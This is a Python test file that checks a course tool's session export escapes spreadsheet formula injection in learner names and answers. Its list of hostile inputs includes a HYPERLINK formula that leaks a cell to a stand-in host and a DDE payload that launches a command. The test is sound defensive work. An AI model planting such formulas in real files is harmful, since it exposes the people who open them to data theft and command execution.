"""`coproduce session export` writes no live spreadsheet formula, whatever learners typed."""

from __future__ import annotations

import csv
from pathlib import Path

from coproduce.cli import main
from coproduce.live.sessions import SessionStore
from coproduce.live.store import Store
from coproduce.text.spreadsheet import FORMULA_STARTS

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _fill(data: Path) -> str:
    store = Store(data)
    room = SessionStore(store)
    code = room.create_session()
    for number, name in enumerate(HOSTILE_NAMES):
        # Ids from `secrets.token_urlsafe` may start with "-" too.
        learner = f"-learner-{number:04d}-abcdef"
        room.join(code, learner, name, "Researcher")
        store.save_answer(learner, "try-poll", {"text": name, "shared": True}, session=code)
    store.close()
    return code


def test_no_cell_of_any_exported_csv_starts_a_formula(course_dir: Path, tmp_path: Path) -> None:
    data, out = tmp_path / "data", tmp_path / "export"
    code = _fill(data)
    args = ["--course", str(course_dir), "session", "export", code, "--data-dir", str(data)]
    assert main([*args, "--out", str(out)]) == 0
    files = sorted(out.glob("*.csv"))
    assert files, "the export wrote no CSV"
    cells = []
    for path in files:
        with path.open(newline="", encoding="utf-8") as source:
            cells += [cell for row in csv.reader(source) for cell in row]
    live = [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"
    with (out / f"session-{code}-learners.csv").open(newline="", encoding="utf-8") as source:
        names = [row["display_name"] for row in csv.DictReader(source)]
    # The value is kept whole behind the quote, so nothing a learner wrote is lost.
    assert sorted(names) == sorted("'" + name for name in HOSTILE_NAMES)
